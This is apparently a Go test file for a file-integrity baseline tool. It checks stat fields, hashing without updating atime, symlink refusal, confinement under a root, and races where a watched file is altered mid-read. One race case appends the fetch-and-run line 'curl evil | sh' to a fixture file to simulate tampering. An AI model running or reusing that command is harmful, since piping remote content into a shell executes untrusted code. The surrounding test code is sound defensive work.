package baseline

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/tripline/tripline/internal/testenv"
	"golang.org/x/sys/unix"
)

func sha(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

const emptySHA = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"

// statQuick runs Stat with a 5 s deadline: nothing Stat is given may make it block.
func statQuick(t *testing.T, root, p string, maxBytes int64) (e Entry, err error) {
	t.Helper()
	within(t, 5*time.Second, "Stat("+QuotePath(p)+")", func() { e, err = Stat(root, p, maxBytes) })
	return e, err
}

func TestStatRegularFile(t *testing.T) {
	root := t.TempDir()
	start := time.Now()
	const content = "#!/bin/sh\necho persistence\n"
	p := write(t, root, "etc/cron.daily/job", content, 0o640)
	if err := os.Link(p, filepath.Join(root, "etc/cron.daily/hardlink")); err != nil {
		t.Fatal(err)
	}
	uid, gid := uint32(os.Getuid()), uint32(os.Getgid())
	if os.Geteuid() == 0 {
		// Distinct ids, so that a uid/gid swap or a zero value cannot pass.
		uid, gid = 1234, 5678
		if err := os.Lchown(p, int(uid), int(gid)); err != nil {
			t.Fatal(err)
		}
	}
	const mtimeNS = 1_600_000_000_123_456_789
	if err := unix.UtimesNanoAt(unix.AT_FDCWD, p, []unix.Timespec{unix.NsecToTimespec(mtimeNS), unix.NsecToTimespec(mtimeNS)}, 0); err != nil {
		t.Fatal(err)
	}
	var ref unix.Statx_t
	if err := unix.Statx(unix.AT_FDCWD, p, unix.AT_SYMLINK_NOFOLLOW, unix.STATX_BASIC_STATS|unix.STATX_BTIME, &ref); err != nil {
		t.Fatal(err)
	}
	var lst unix.Stat_t
	if err := unix.Lstat(p, &lst); err != nil {
		t.Fatal(err)
	}

	e, err := Stat(root, "/etc/cron.daily/job", 0)
	if err != nil {
		t.Fatalf("Stat: %v", err)
	}
	want := Entry{
		Path:      "/etc/cron.daily/job",
		Type:      TypeFile,
		Mode:      0o640,
		UID:       uid,
		GID:       gid,
		Size:      int64(len(content)),
		Inode:     lst.Ino,
		Dev:       lst.Dev,
		Nlink:     2,
		MtimeNS:   mtimeNS,
		CtimeNS:   lst.Ctim.Nano(),
		SHA256:    sha(content),
		HashState: HashOK,
	}
	if ref.Mask&unix.STATX_BTIME != 0 {
		t.Logf("the test filesystem reports birth times")
		want.BtimeNS = ref.Btime.Sec*1e9 + int64(ref.Btime.Nsec)
		if want.BtimeNS == 0 {
			t.Fatal("statx reported a zero birth time")
		}
		// The birth time is the creation just above, not the mtime set afterwards.
		if b := time.Unix(0, e.BtimeNS); b.Before(start.Add(-2*time.Second)) || b.After(time.Now().Add(2*time.Second)) {
			t.Errorf("BtimeNS = %v, want about %v", b, start)
		}
	} else {
		t.Logf("the test filesystem reports no birth time: BtimeNS must be 0")
	}
	if e != want {
		t.Errorf("Stat =\n %+v\nwant\n %+v", e, want)
	}
	if !e.SameInode(&want) {
		t.Error("SameInode(itself) = false")
	}

	// A negative cap observes without reading.
	e, err = Stat(root, "/etc/cron.daily/job", -1)
	if err != nil || e.HashState != HashNotComputed || e.SHA256 != "" {
		t.Errorf("Stat(max -1) = %v, %q, %v; want not-computed, no hash", e.HashState, e.SHA256, err)
	}
}

func TestStatDoesNotUpdateAtime(t *testing.T) {
	root := t.TempDir()
	p := write(t, root, "etc/profile", "export PATH\n", 0o644)
	// An atime older than the mtime is updated by any read, even on a relatime mount.
	old := time.Now().Add(-72 * time.Hour)
	if err := os.Chtimes(p, old, time.Now()); err != nil {
		t.Fatal(err)
	}
	var before, after unix.Stat_t
	if err := unix.Stat(p, &before); err != nil {
		t.Fatal(err)
	}
	if e, err := Stat(root, "/etc/profile", 0); err != nil || e.HashState != HashOK {
		t.Fatalf("Stat: %v, %v", e.HashState, err)
	}
	if err := unix.Stat(p, &after); err != nil {
		t.Fatal(err)
	}
	if after.Atim != before.Atim {
		t.Errorf("hashing moved the atime from %v to %v: O_NOATIME was not used", before.Atim, after.Atim)
	}
}

func TestStatTypes(t *testing.T) {
	long := strings.Repeat("t", 3000) // longer than readlinkAt's first buffer
	cases := []struct {
		name     string
		root     bool // needs uid 0
		setup    func(t *testing.T, root, p string)
		maxBytes int64
		want     Entry // Path, Type, Mode, Target, SHA256, HashState, Size (when >= 0) are compared
	}{
		{
			name:  "empty file",
			setup: func(t *testing.T, root, p string) { write(t, root, "etc/x", "", 0o644) },
			want:  Entry{Type: TypeFile, Mode: 0o644, SHA256: emptySHA, HashState: HashOK},
		},
		{
			name:  "setuid file",
			setup: func(t *testing.T, root, p string) { write(t, root, "etc/x", "x", 0o4755) },
			want:  Entry{Type: TypeFile, Mode: 0o4755, Size: 1, SHA256: sha("x"), HashState: HashOK},
		},
		{
			name:  "directory",
			setup: func(t *testing.T, root, p string) { mkdir(t, root, "etc/x", 0o1777) },
			want:  Entry{Type: TypeDir, Mode: 0o1777, Size: -1, HashState: HashNotRegular},
		},
		{
			name:  "symlink to /dev/zero",
			setup: func(t *testing.T, root, p string) { symlink(t, "/dev/zero", p) },
			want:  Entry{Type: TypeSymlink, Mode: 0o777, Size: 9, Target: "/dev/zero", HashState: HashNotRegular},
		},
		{
			name: "symlink to a directory",
			setup: func(t *testing.T, root, p string) {
				mkdir(t, root, "etc/d", 0o755)
				write(t, root, "etc/d/f", "inside", 0o644)
				symlink(t, "d", p)
			},
			want: Entry{Type: TypeSymlink, Mode: 0o777, Size: 1, Target: "d", HashState: HashNotRegular},
		},
		{
			name:  "symlink loop",
			setup: func(t *testing.T, root, p string) { symlink(t, "x", p) },
			want:  Entry{Type: TypeSymlink, Mode: 0o777, Size: 1, Target: "x", HashState: HashNotRegular},
		},
		{
			name:  "symlink with a long target",
			setup: func(t *testing.T, root, p string) { symlink(t, long, p) },
			want:  Entry{Type: TypeSymlink, Mode: 0o777, Size: int64(len(long)), Target: long, HashState: HashNotRegular},
		},
		{
			name: "fifo",
			setup: func(t *testing.T, root, p string) {
				mkdir(t, root, "etc", 0o755)
				if err := unix.Mkfifo(p, 0o600); err != nil {
					t.Fatal(err)
				}
				if err := unix.Chmod(p, 0o600); err != nil {
					t.Fatal(err)
				}
			},
			want: Entry{Type: TypeFIFO, Mode: 0o600, Size: 0, HashState: HashNotRegular},
		},
		{
			name: "unix socket",
			setup: func(t *testing.T, root, p string) {
				mkdir(t, root, "etc", 0o755)
				l, err := net.Listen("unix", p)
				if err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { l.Close() })
			},
			want: Entry{Type: TypeSocket, Mode: 0o777 &^ uint32(umask()), Size: -1, HashState: HashNotRegular},
		},
		{
			name: "char device like /dev/null",
			root: true,
			setup: func(t *testing.T, root, p string) {
				mkdir(t, root, "etc", 0o755)
				if err := unix.Mknod(p, unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))); err != nil {
					t.Fatal(err)
				}
				if err := unix.Chmod(p, 0o666); err != nil {
					t.Fatal(err)
				}
			},
			want: Entry{Type: TypeChar, Mode: 0o666, Size: 0, HashState: HashNotRegular},
		},
		{
			name: "block device",
			root: true,
			setup: func(t *testing.T, root, p string) {
				mkdir(t, root, "etc", 0o755)
				// 7:200 is a loop device number that is almost never configured; it must not be opened either way.
				if err := unix.Mknod(p, unix.S_IFBLK|0o600, int(unix.Mkdev(7, 200))); err != nil {
					t.Fatal(err)
				}
			},
			want: Entry{Type: TypeBlock, Mode: 0o600, Size: 0, HashState: HashNotRegular},
		},
		{
			name:     "file over the size cap",
			setup:    func(t *testing.T, root, p string) { write(t, root, "etc/x", strings.Repeat("a", 100), 0o755) },
			maxBytes: 99,
			want:     Entry{Type: TypeFile, Mode: 0o755, Size: 100, HashState: HashTooLarge},
		},
		{
			name:     "file exactly at the size cap",
			setup:    func(t *testing.T, root, p string) { write(t, root, "etc/x", strings.Repeat("a", 100), 0o755) },
			maxBytes: 100,
			want:     Entry{Type: TypeFile, Mode: 0o755, Size: 100, SHA256: sha(strings.Repeat("a", 100)), HashState: HashOK},
		},
		{
			name: "file with mode 0000 (readable by root)",
			root: true,
			setup: func(t *testing.T, root, p string) {
				write(t, root, "etc/x", "secret", 0)
			},
			want: Entry{Type: TypeFile, Mode: 0, Size: 6, SHA256: sha("secret"), HashState: HashOK},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if tc.root {
				testenv.RequireRoot(t)
			}
			root := t.TempDir()
			tc.setup(t, root, filepath.Join(root, "etc/x"))
			e, err := statQuick(t, root, "/etc/x", tc.maxBytes)
			if err != nil {
				t.Fatalf("Stat: %v", err)
			}
			got := Entry{Path: e.Path, Type: e.Type, Mode: e.Mode, Target: e.Target, SHA256: e.SHA256, HashState: e.HashState, Size: e.Size}
			want := tc.want
			want.Path = "/etc/x"
			if want.Size < 0 {
				got.Size = -1 // not meaningful for this type
			}
			if got != want {
				t.Errorf("Stat =\n %+v\nwant\n %+v", got, want)
			}
			if e.Inode == 0 || e.Nlink == 0 || e.CtimeNS == 0 {
				t.Errorf("identity fields missing: %+v", e)
			}
		})
	}
}

func umask() int {
	m := unix.Umask(0)
	unix.Umask(m)
	return m
}

func TestStatBadPaths(t *testing.T) {
	root := t.TempDir()
	outside := t.TempDir()
	write(t, outside, "passwd", "outside:x:0:0::/:/bin/sh\n", 0o644)
	write(t, root, "etc/real/x", "inside", 0o644)
	write(t, root, "etc/file", "a file", 0o644)
	symlink(t, "/etc", filepath.Join(root, "hostetc"))  // the host's /etc, absolute
	symlink(t, outside, filepath.Join(root, "outside")) // another tree
	symlink(t, "real", filepath.Join(root, "etc/link")) // inside root, still never followed

	cases := []struct {
		name  string
		path  string
		errno []unix.Errno // any of these, found with errors.Is
	}{
		{"component is a symlink to the host's /etc", "/hostetc/passwd", []unix.Errno{unix.ELOOP, unix.ENOTDIR}},
		{"component is a symlink out of root", "/outside/passwd", []unix.Errno{unix.ELOOP, unix.ENOTDIR}},
		{"component is a symlink inside root", "/etc/link/x", []unix.Errno{unix.ELOOP, unix.ENOTDIR}},
		{"component is a regular file", "/etc/file/x", []unix.Errno{unix.ENOTDIR}},
		{"missing component", "/nope/x", []unix.Errno{unix.ENOENT}},
		{"missing name", "/etc/nope", []unix.Errno{unix.ENOENT}},
		{"name too long", "/etc/" + strings.Repeat("n", 256), []unix.Errno{unix.ENAMETOOLONG}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			e, err := statQuick(t, root, tc.path, 0)
			if err == nil {
				t.Fatalf("Stat(%s) = %+v, want an error", tc.path, e)
			}
			if e != (Entry{}) {
				t.Errorf("Stat returned an entry with its error: %+v", e) // nothing was observed
			}
			var pe *PathError
			if !errors.As(err, &pe) || pe.Path != tc.path {
				t.Errorf("error %v is not a *PathError for %q", err, tc.path)
			}
			matched := false
			for _, errno := range tc.errno {
				matched = matched || errors.Is(err, errno)
			}
			if !matched {
				t.Errorf("error %v, want one of %v", err, tc.errno)
			}
			if errors.Is(err, unix.ELOOP) && !strings.Contains(err.Error(), "never followed") {
				t.Errorf("message %q does not say symlinks are never followed", err)
			}
		})
	}

	// The symlinks themselves are observed, as symlinks.
	for _, p := range []string{"/hostetc", "/outside", "/etc/link"} {
		e, err := Stat(root, p, 0)
		if err != nil || e.Type != TypeSymlink {
			t.Errorf("Stat(%s) = %v, %v; want a symlink", p, e.Type, err)
		}
	}

	if _, err := Stat(root, "etc/real/x", 0); err == nil || !strings.Contains(err.Error(), "not an absolute path") {
		t.Errorf("relative path: err = %v", err)
	}
	if _, err := Stat(root, "/etc/nope", 0); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("missing path: err = %v, want fs.ErrNotExist", err)
	}
	if _, err := Stat(filepath.Join(root, "nope"), "/etc", 0); err == nil {
		t.Error("missing root: no error")
	}
}

// Dot-dot components are resolved lexically against the logical root, never above it.
func TestStatStaysUnderRoot(t *testing.T) {
	root := t.TempDir()
	write(t, root, "etc/passwd", "root:x:0:0::/root:/bin/sh\n", 0o644)
	var inside unix.Stat_t
	if err := unix.Stat(filepath.Join(root, "etc/passwd"), &inside); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"/../../../etc/passwd", "/etc/../../etc/passwd", "/etc/./passwd", "//etc//passwd/"} {
		e, err := Stat(root, p, 0)
		if err != nil {
			t.Errorf("Stat(%s): %v", p, err)
			continue
		}
		if e.Path != "/etc/passwd" || e.Inode != inside.Ino || e.SHA256 != sha("root:x:0:0::/root:/bin/sh\n") {
			t.Errorf("Stat(%s) = %s inode %d, want the root's /etc/passwd (inode %d)", p, e.Path, e.Inode, inside.Ino)
		}
	}
	e, err := Stat(root, "/", 0)
	if err != nil || e.Type != TypeDir || e.Path != "/" {
		t.Errorf("Stat(/) = %+v, %v", e, err)
	}
}

// The permission-denied side, run as uid 65534 on one thread of this root process.
func TestStatUnprivileged(t *testing.T) {
	testenv.RequireRoot(t)
	root := nobodyRoot(t)
	write(t, root, "etc/secret", "shadow", 0o000)
	write(t, root, "etc/public", "public", 0o644) // owned by root: O_NOATIME is refused to nobody
	write(t, root, "private/x", "x", 0o644)
	mkdir(t, root, "private", 0o700)

	var secret, public, private Entry
	var secretErr, publicErr, privateErr error
	asNobody(t, func() {
		secret, secretErr = Stat(root, "/etc/secret", 0)
		public, publicErr = Stat(root, "/etc/public", 0)
		private, privateErr = Stat(root, "/private/x", 0)
	})

	// An unreadable file is still observed; only its hash is missing.
	if !errors.Is(secretErr, unix.EACCES) || secret.HashState != HashUnreadable || secret.SHA256 != "" {
		t.Errorf("mode 0000 file as nobody: %v, %q, %v; want unreadable with EACCES", secret.HashState, secret.SHA256, secretErr)
	}
	if secret.Type != TypeFile || secret.Size != 6 || secret.Path != "/etc/secret" {
		t.Errorf("mode 0000 file as nobody: entry %+v lost its stat fields", secret)
	}
	var pe *PathError
	if !errors.As(secretErr, &pe) || pe.Path != "/etc/secret" {
		t.Errorf("error %v does not name the path", secretErr)
	}
	// O_NOATIME fails with EPERM on a file nobody does not own; the hash must still be taken.
	if publicErr != nil || public.HashState != HashOK || public.SHA256 != sha("public") {
		t.Errorf("root-owned 0644 file as nobody: %v, %v", public.HashState, publicErr)
	}
	if !errors.Is(privateErr, unix.EACCES) || private != (Entry{}) {
		t.Errorf("file in a 0700 directory as nobody: %+v, %v; want EACCES", private, privateErr)
	}
}

func TestStatNames(t *testing.T) {
	root := t.TempDir()
	names := []string{"a\nb", "\xff", "\xfe\xfd.sh", strings.Repeat("n", 255), "-rf", " lead", "trail ", "\x1b[2J", "é", `"q"`}
	for _, n := range names {
		write(t, root, "d/"+n, n, 0o644)
	}
	for _, n := range names {
		p := "/d/" + n
		e, err := Stat(root, p, 0)
		if err != nil {
			t.Errorf("Stat(%s): %v", QuotePath(p), err)
			continue
		}
		if e.Path != p || e.SHA256 != sha(n) {
			t.Errorf("Stat(%s) = %s %s", QuotePath(p), QuotePath(e.Path), e.SHA256)
		}
	}
	// An error about a hostile name is one line.
	_, err := Stat(root, "/d/no\nsuch\xff", 0)
	if err == nil || strings.Contains(err.Error(), "\n") || !strings.Contains(err.Error(), `"/d/no\nsuch\xff"`) {
		t.Errorf("error for a hostile name: %q", err)
	}
}

// setHook installs testHookAfterOpen for one test.
func setHook(t *testing.T, f func(name string)) {
	t.Helper()
	old := testHookAfterOpen
	testHookAfterOpen = f
	t.Cleanup(func() { testHookAfterOpen = old })
}

// Races between open and the end of the read, provoked through testHookAfterOpen.
func TestHashRaceAfterOpen(t *testing.T) {
	const content = "#!/bin/sh\nexec /tmp/x\n"
	cases := []struct {
		name   string
		act    func(t *testing.T, p string)
		state  HashState
		target error
	}{
		{"untouched", func(t *testing.T, p string) {}, HashOK, nil},
		{"deleted", func(t *testing.T, p string) {
			if err := os.Remove(p); err != nil {
				t.Error(err)
			}
		}, HashVanished, ErrVanished},
		{"appended", func(t *testing.T, p string) {
			f, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0)
			if err != nil {
				t.Error(err)
				return
			}
			f.WriteString("curl evil | sh\n")
			f.Close()
		}, HashChanged, ErrChanged},
		{"truncated", func(t *testing.T, p string) {
			if err := os.Truncate(p, 0); err != nil {
				t.Error(err)
			}
		}, HashChanged, ErrChanged},
		{"rewritten in place, same size", func(t *testing.T, p string) {
			f, err := os.OpenFile(p, os.O_WRONLY, 0)
			if err != nil {
				t.Error(err)
				return
			}
			f.WriteAt([]byte("#"), 0)
			f.Close()
		}, HashChanged, ErrChanged},
	}
	// Each race through Stat (hashed through the read buffer) and through a Visit that keeps the
	// content (read straight into the kept bytes, which must come back only when consistent).
	for _, keep := range []bool{false, true} {
		for _, tc := range cases {
			name := tc.name
			if keep {
				name += ", content kept"
			}
			t.Run(name, func(t *testing.T) {
				testHashRace(t, content, keep, tc.act, tc.state, tc.target)
			})
		}
	}
}

// testHashRace runs act between the open and the read of a hash of /etc/rc.local holding
// content, and checks the outcome: state, and target (nil: the hash of content).
func testHashRace(t *testing.T, content string, keep bool, act func(t *testing.T, p string), state HashState, target error) {
	root := t.TempDir()
	p := write(t, root, "etc/rc.local", content, 0o755)
	calls := 0
	setHook(t, func(name string) {
		calls++
		if name != "rc.local" {
			t.Errorf("hook got name %q", name)
		}
		act(t, p)
	})
	var e Entry
	var err error
	if keep {
		var kept []byte
		werr := Walk(t.Context(), root, rootAll(), func(v *Visit) error {
			defer v.Release()
			if v.Entry.Path != "/etc/rc.local" {
				return nil
			}
			kept, err = v.HashContent(0, make([]byte, 1024), 1<<20)
			e = v.Entry
			return nil
		})
		if werr != nil {
			t.Fatal(werr)
		}
		if want := target == nil; (kept != nil) != want || (want && string(kept) != content) {
			t.Errorf("kept %q; want the content only when the hash is consistent", kept)
		}
	} else {
		e, err = Stat(root, "/etc/rc.local", 0)
	}
	if calls != 1 {
		t.Fatalf("hook called %d times", calls)
	}
	if e.HashState != state {
		t.Errorf("HashState = %v, want %v (err %v)", e.HashState, state, err)
	}
	if target == nil {
		if err != nil || e.SHA256 != sha(content) {
			t.Errorf("Stat = %q, %v; want the hash of the opened content", e.SHA256, err)
		}
		return
	}
	if !errors.Is(err, target) {
		t.Errorf("err = %v, want %v", err, target)
	}
	if e.SHA256 != "" {
		t.Errorf("SHA256 = %q set for an inconsistent read", e.SHA256)
	}
	var pe *PathError
	if !errors.As(err, &pe) || pe.Path != "/etc/rc.local" {
		t.Errorf("error %v does not name the path", err)
	}
	if e.Type != TypeFile || e.Path != "/etc/rc.local" {
		t.Errorf("entry lost its stat fields: %+v", e)
	}
}

// Races between the stat that Walk did and the open in Visit.Hash: the name now holds another
// object. Hash must notice, and never block or read a non-regular file.
func TestHashReplacedBeforeOpen(t *testing.T) {
	const content = "echo original\n"
	cases := []struct {
		name   string
		root   bool
		act    func(t *testing.T, p string)
		state  HashState
		target error
	}{
		{"untouched", false, func(t *testing.T, p string) {}, HashOK, nil},
		{"removed", false, func(t *testing.T, p string) {
			if err := os.Remove(p); err != nil {
				t.Fatal(err)
			}
		}, HashVanished, ErrVanished},
		{"another file renamed over it", false, func(t *testing.T, p string) {
			if err := os.WriteFile(p+".new", []byte("echo evil\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Rename(p+".new", p); err != nil {
				t.Fatal(err)
			}
		}, HashReplaced, ErrReplaced},
		{"symlink to /dev/zero renamed over it", false, func(t *testing.T, p string) {
			if err := os.Symlink("/dev/zero", p+".new"); err != nil {
				t.Fatal(err)
			}
			if err := os.Rename(p+".new", p); err != nil {
				t.Fatal(err)
			}
		}, HashReplaced, ErrReplaced},
		{"fifo renamed over it", false, func(t *testing.T, p string) {
			if err := unix.Mkfifo(p+".new", 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.Rename(p+".new", p); err != nil {
				t.Fatal(err)
			}
		}, HashReplaced, ErrReplaced},
		{"directory in its place", false, func(t *testing.T, p string) {
			if err := os.Remove(p); err != nil {
				t.Fatal(err)
			}
			if err := os.Mkdir(p, 0o755); err != nil {
				t.Fatal(err)
			}
		}, HashReplaced, ErrReplaced},
		{"char device renamed over it", true, func(t *testing.T, p string) {
			if err := unix.Mknod(p+".new", unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))); err != nil {
				t.Fatal(err)
			}
			if err := os.Rename(p+".new", p); err != nil {
				t.Fatal(err)
			}
		}, HashReplaced, ErrReplaced},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if tc.root {
				testenv.RequireRoot(t)
			}
			root := t.TempDir()
			p := write(t, root, "etc/init.d/svc", content, 0o755)
			var visits []*Visit
			err := Walk(t.Context(), root, literal("init", "/etc/init.d/svc"), func(v *Visit) error {
				visits = append(visits, v)
				return nil
			})
			if err != nil || len(visits) != 1 {
				t.Fatalf("Walk: %d visits, %v", len(visits), err)
			}
			v := visits[0]
			defer v.Release()
			tc.act(t, p)
			var herr error
			within(t, 5*time.Second, "Visit.Hash", func() { herr = v.Hash(0, make([]byte, 4096)) })
			if v.Entry.HashState != tc.state {
				t.Errorf("HashState = %v, want %v (err %v)", v.Entry.HashState, tc.state, herr)
			}
			if tc.target == nil {
				if herr != nil || v.Entry.SHA256 != sha(content) {
					t.Errorf("Hash = %q, %v", v.Entry.SHA256, herr)
				}
				return
			}
			if !errors.Is(herr, tc.target) || v.Entry.SHA256 != "" {
				t.Errorf("Hash: err %v, sha %q; want %v and no hash", herr, v.Entry.SHA256, tc.target)
			}
			var pe *PathError
			if !errors.As(herr, &pe) || pe.Path != "/etc/init.d/svc" {
				t.Errorf("error %v does not name the path", herr)
			}
		})
	}
}

func TestFollowLink(t *testing.T) {
	root := t.TempDir()
	write(t, root, "etc/c", "end", 0o644)
	symlink(t, "b", filepath.Join(root, "etc/a"))
	symlink(t, "/etc/c", filepath.Join(root, "etc/b"))
	symlink(t, "y", filepath.Join(root, "etc/x"))
	symlink(t, "x", filepath.Join(root, "etc/y"))
	symlink(t, "self", filepath.Join(root, "etc/self"))
	// Absolute targets are resolved under root: this one does not exist on the host.
	write(t, root, "opt/tripline-followlink-test/real", "r", 0o644)
	symlink(t, "/opt/tripline-followlink-test/real", filepath.Join(root, "etc/abs"))
	symlink(t, "../../../../opt/tripline-followlink-test/real", filepath.Join(root, "etc/up"))
	symlink(t, "nowhere", filepath.Join(root, "etc/dangling"))
	// A link whose target goes through a symlinked directory.
	write(t, root, "real/x", "x", 0o644)
	symlink(t, "real", filepath.Join(root, "dirlink"))
	symlink(t, "/dirlink/x", filepath.Join(root, "etc/via"))
	// Chains at the MaxLinkHops boundary: 40 links resolve, 41 do not.
	for i := 0; i < MaxLinkHops+1; i++ {
		symlink(t, "h"+strconv.Itoa(i+1), filepath.Join(root, "hops/h"+strconv.Itoa(i)))
	}
	write(t, root, "hops/h41", "end", 0o644)
	for i := 1; i <= MaxLinkHops; i++ {
		symlink(t, "g"+strconv.Itoa(i+1), filepath.Join(root, "hops/g"+strconv.Itoa(i)))
	}
	write(t, root, "hops/g41", "end", 0o644)

	cases := []struct {
		name, path, want string
		err              error
	}{
		{"chain", "/etc/a", "/etc/c", nil},
		{"not a link", "/etc/c", "/etc/c", nil},
		{"loop", "/etc/x", "", ErrLinkLoop},
		{"self loop", "/etc/self", "", ErrLinkLoop},
		{"absolute target under root", "/etc/abs", "/opt/tripline-followlink-test/real", nil},
		{"dot-dot stops at root", "/etc/up", "/opt/tripline-followlink-test/real", nil},
		{"dangling", "/etc/dangling", "/etc/nowhere", fs.ErrNotExist},
		{"through a symlinked directory", "/etc/via", "/dirlink/x", unix.ELOOP},
		{"40 hops", "/hops/g1", "/hops/g41", nil},
		{"41 hops", "/hops/h0", "", ErrLinkLoop},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got, err := FollowLink(root, tc.path)
			if tc.err == nil {
				if err != nil || got != tc.want {
					t.Errorf("FollowLink(%s) = %s, %v; want %s", tc.path, got, err, tc.want)
				}
				return
			}
			if tc.err == unix.ELOOP && errors.Is(err, unix.ENOTDIR) {
				err = unix.ELOOP // either errno refuses the symlinked component
			}
			if !errors.Is(err, tc.err) {
				t.Errorf("FollowLink(%s) = %s, %v; want error %v", tc.path, got, err, tc.err)
			}
			if tc.want != "" && got != tc.want {
				t.Errorf("FollowLink(%s) stopped at %s, want %s", tc.path, got, tc.want)
			}
		})
	}
}

func TestGlob(t *testing.T) {
	root := t.TempDir()
	for _, d := range []string{"if-up.d", "if-down.d", "if-pre-up.d", "if-post-down.d"} {
		mkdir(t, root, "etc/network/"+d, 0o755)
	}
	write(t, root, "etc/network/interfaces", "auto lo\n", 0o644)
	mkdir(t, root, "etc/network/if-up.d.dpkg-old", 0o755) // does not end in .d
	mkdir(t, root, "etc/network/xif-up.d", 0o755)
	symlink(t, "network", filepath.Join(root, "etc/netlink")) // never followed
	mkdir(t, root, "etc/other/if-x.d", 0o755)

	cases := []struct {
		pattern string
		want    []string
	}{
		{"/etc/network/if-*.d", []string{"/etc/network/if-down.d", "/etc/network/if-post-down.d", "/etc/network/if-pre-up.d", "/etc/network/if-up.d"}},
		{"/etc/network/if-[du]*.d", []string{"/etc/network/if-down.d", "/etc/network/if-up.d"}},
		{"/etc/*/if-*.d", []string{"/etc/network/if-down.d", "/etc/network/if-post-down.d", "/etc/network/if-pre-up.d", "/etc/network/if-up.d", "/etc/other/if-x.d"}},
		{"/etc/netlink/if-*.d", nil},
		{"/etc/network/interfaces", []string{"/etc/network/interfaces"}},
		{"/etc/network/nope", nil},
		{"/etc/nope/if-*.d", nil},
		{"/etc/**/if-*.d", []string{"/etc"}}, // ** is not expanded: Glob stops before it
		{"/", []string{"/"}},
	}
	for _, tc := range cases {
		t.Run(tc.pattern, func(t *testing.T) {
			es, err := Glob(root, tc.pattern)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, e := range es {
				got = append(got, e.Path)
				if e.HashState == HashOK {
					t.Errorf("%s was hashed", e.Path)
				}
			}
			if strings.Join(got, "\n") != strings.Join(tc.want, "\n") {
				t.Errorf("Glob(%s) = %q, want %q", tc.pattern, got, tc.want)
			}
		})
	}
	if _, err := Glob(root, "etc/*"); err == nil {
		t.Error("relative pattern: no error")
	}
}
